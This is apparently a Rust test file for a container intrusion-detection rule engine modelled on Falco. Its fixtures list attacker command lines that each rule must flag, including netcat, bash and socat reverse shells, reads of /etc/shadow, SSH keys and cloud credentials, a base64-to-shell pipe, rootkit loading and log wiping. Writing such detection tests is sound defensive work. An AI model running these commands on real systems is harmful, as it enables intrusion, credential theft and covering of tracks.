use super::*;

fn rules() -> ProcessRules {
    ProcessRules::builtin().unwrap()
}

/// An execution of `cmdline` (argv split on spaces) by `parent`.
fn exec(cmdline: &str, parent: &str) -> Execution {
    let args: Vec<String> = cmdline.split(' ').map(str::to_owned).collect();
    let exe = if args[0].starts_with('/') {
        args[0].clone()
    } else {
        format!("/usr/bin/{}", args[0])
    };
    Execution {
        name: base_name(&args[0]).to_owned(),
        exe: Some(exe),
        args,
        parent_exe: Some(parent.to_owned()),
        grandparent_exe: Some("/usr/bin/containerd-shim-runc-v2".to_owned()),
        exe_writable_layer: Some(false),
        container_id: "c".repeat(64),
        container_name: "web".to_owned(),
        image: "nginx:1.25".to_owned(),
        ..Execution::default()
    }
}

fn matched(rules: &ProcessRules, execution: &Execution) -> Vec<String> {
    rules
        .evaluate(
            &execution.fields(),
            &execution.image,
            0,
            &mut FrequencyState::default(),
        )
        .into_iter()
        .map(|m| m.id)
        .collect()
}

#[test]
fn builtin_rules_compile_with_falco_names_and_mitre_ids() {
    let rules = rules();
    assert!(rules.len() >= 30, "{}", rules.len());
    let named = (0..100)
        .filter(|n| rules.falco_name(&format!("960{n:02}")).is_some())
        .count();
    assert!(named >= 20, "only {named} rules name a Falco rule");
    assert_eq!(
        rules.falco_name("96000"),
        Some("Terminal shell in container")
    );
}

/// Each case: the command line, its parent, and the rules it must raise.
/// Marked (eg) where the command is that of a Falco event-generator
/// action (falcosecurity/event-generator, events/syscall/*.go).
#[test]
fn each_builtin_rule_fires_on_its_fixture() {
    let rules = rules();
    let cases: &[(&str, &str, &[&str])] = &[
        ("sh -c id", "/usr/sbin/nginx", &["96001"]),
        // (eg) netcat_remote_code_execution_in_container
        (
            "nc -e /bin/sh example.com 22",
            "/bin/sh",
            &["96002", "96003", "96023"],
        ),
        ("nc -l -p 4444", "/bin/sh", &["96003"]),
        (
            "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty",
            "/bin/sh",
            &["96003", "96004"],
        ),
        // (eg) launch_package_management_process_in_container
        ("apk add curl", "/bin/sh", &["96005"]),
        ("apt-get install -y nmap", "/bin/sh", &["96005"]),
        ("wget http://203.0.113.9/x", "/bin/sh", &["96006"]),
        ("cat /etc/shadow", "/bin/sh", &["96007"]),
        ("head -n1 /etc/sudoers", "/bin/sh", &["96007"]),
        ("cat /root/.ssh/id_rsa", "/bin/sh", &["96008"]),
        ("cat /root/.aws/credentials", "/bin/sh", &["96009"]),
        (
            "curl http://169.254.169.254/latest/meta-data/",
            "/bin/sh",
            &["96006", "96010"],
        ),
        // (eg) search_private_keys_or_passwords
        ("find /tmp -maxdepth 1 -iname id_rsa", "/bin/sh", &["96011"]),
        ("grep -ri password /etc", "/bin/sh", &["96011"]),
        // (eg) user_mgmt_binaries
        ("useradd -M -s /bin/sh backdoor", "/bin/sh", &["96012"]),
        // (eg) set_setuid_or_setgid_bit
        ("chmod u+s /tmp/x", "/bin/sh", &["96013"]),
        ("chmod 4755 /tmp/x", "/bin/sh", &["96013"]),
        // (eg) delete_or_rename_shell_history
        ("rm /root/.bash_history", "/bin/sh", &["96014"]),
        ("shred -u /root/.ash_history", "/bin/sh", &["96014"]),
        // (eg) clear_log_activities
        ("truncate -s0 /var/log/auth.log", "/bin/sh", &["96015"]),
        ("/tmp/payload --quiet", "/bin/sh", &["96016"]),
        // (eg) execution_from_dev_shm
        ("/dev/shm/x", "/bin/sh", &["96017"]),
        // (eg) detect_crypto_miners_using_the_stratum_protocol
        ("ls -o stratum+tcp -u user -p pass", "/bin/sh", &["96020"]),
        ("xmrig -o pool:3333", "/bin/sh", &["96021"]),
        ("/opt/app/worker --donate-level 1", "/bin/sh", &["96022"]),
        (
            "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "/bin/sh",
            &["96023"],
        ),
        // (eg) decoding_payload_in_container
        ("base64 -d", "/bin/sh", &["96024"]),
        (
            "sh -c echo ZWNobyBoZWxsbw== | base64 -d | sh",
            "/usr/bin/python3",
            &["96025"],
        ),
        // (eg) linux_kernel_module_injection
        ("insmod /tmp/rootkit.ko", "/bin/sh", &["96026"]),
        // (eg) debugfs_launched_in_privilleged_container
        ("debugfs /dev/sda1", "/bin/sh", &["96027"]),
        // (eg) mount_launched_in_privileged_container
        ("mount /dev/sda1 /mnt", "/bin/sh", &["96028"]),
        ("pkexec", "/bin/sh", &["96029"]),
        // (eg) schedule_cron_jobs
        ("crontab -l", "/bin/sh", &["96030"]),
        ("docker ps", "/bin/sh", &["96031"]),
    ];
    let mut fired: std::collections::BTreeSet<String> = Default::default();
    for (cmdline, parent, want) in cases {
        let got = matched(&rules, &exec(cmdline, parent));
        assert_eq!(&got, want, "{cmdline} (parent {parent})");
        fired.extend(got);
    }
    let mut terminal = exec("sh", "/usr/bin/runc");
    terminal.tty = true;
    assert_eq!(matched(&rules, &terminal), vec!["96000"]);
    let mut memfd = exec("x", "/bin/sh");
    memfd.exe = Some("/memfd:payload (deleted)".to_owned());
    assert_eq!(matched(&rules, &memfd), vec!["96018"]);
    let mut drift = exec("/usr/local/bin/tool", "/bin/sh");
    drift.exe_writable_layer = Some(true);
    assert_eq!(matched(&rules, &drift), vec!["96019"]);
    fired.extend(["96000", "96018", "96019"].map(str::to_owned));
    for n in 0..=31 {
        let id = format!("960{n:02}");
        assert!(fired.contains(&id), "no fixture fires {id}");
    }
}

#[test]
fn an_ordinary_workload_raises_nothing() {
    let rules = rules();
    for (cmdline, parent) in [
        ("nginx -g daemon off;", "/usr/bin/containerd-shim-runc-v2"),
        ("/usr/sbin/nginx -g daemon off;", "/usr/bin/runc"),
        ("sleep 3600", "/bin/sh"),
        ("sh -c sleep 1", "/usr/bin/runc"),
        ("cat /etc/hostname", "/bin/sh"),
        ("chmod 0755 /app/run", "/bin/sh"),
        ("chmod +x /app/run", "/bin/sh"),
        ("grep -c GET /var/www/index.html", "/bin/sh"),
        ("python3 app.py", "/bin/sh"),
        ("rm -f /tmp/cache.lock", "/bin/sh"),
        ("mount", "/bin/sh"),
        ("crontab", "/bin/sh"),
    ] {
        let got = matched(&rules, &exec(cmdline, parent));
        assert!(got.is_empty(), "{cmdline}: {got:?}");
    }
}

#[test]
fn images_can_be_allowed_per_rule_and_lists_extended() {
    let user = "lists:\n  shell_binaries: [sh, bash, busybox]\n\
                allow_images:\n  - images: ['debug/*']\n    rules: ['96005']\n\
                process_rules:\n  - id: '96900'\n    level: 3\n    description: busybox shell\n    \
                match:\n      name: { list: shell_binaries }\n      argv0: { equals: busybox }\n";
    let rules = ProcessRules::parse_sources(&[
        RuleSource {
            name: Some(PROCESS_RULES_NAME),
            text: PROCESS_RULES,
        },
        RuleSource {
            name: Some("mine.yml"),
            text: user,
        },
    ])
    .unwrap();
    let mut apk = exec("apk add curl", "/bin/sh");
    assert_eq!(matched(&rules, &apk), vec!["96005"]);
    apk.image = "debug/tools:1".to_owned();
    assert!(matched(&rules, &apk).is_empty());
    let mut busybox = exec("busybox", "/bin/sh");
    busybox.name = "busybox".to_owned();
    assert_eq!(matched(&rules, &busybox), vec!["96900"]);
}

#[test]
fn errors_name_the_file_line_and_rule() {
    let text = "process_rules:\n  - id: '96901'\n    level: 3\n    description: x\n    match:\n      name: { list: nowhere }\n";
    let error = ProcessRules::parse_sources(&[RuleSource {
        name: Some("bad.yml"),
        text,
    }])
    .unwrap_err()
    .to_string();
    assert!(error.contains("'bad.yml', line 2"), "{error}");
    assert!(error.contains("list 'nowhere' is not defined"), "{error}");
    let unknown = ProcessRules::parse_sources(&[RuleSource {
        name: Some("bad.yml"),
        text: "process_rules: []\nrules: []\n",
    }])
    .unwrap_err()
    .to_string();
    assert!(unknown.contains("unknown field `rules`"), "{unknown}");
    assert!(is_process_rule_file(text));
    assert!(!is_process_rule_file("rules: []\n"));
}
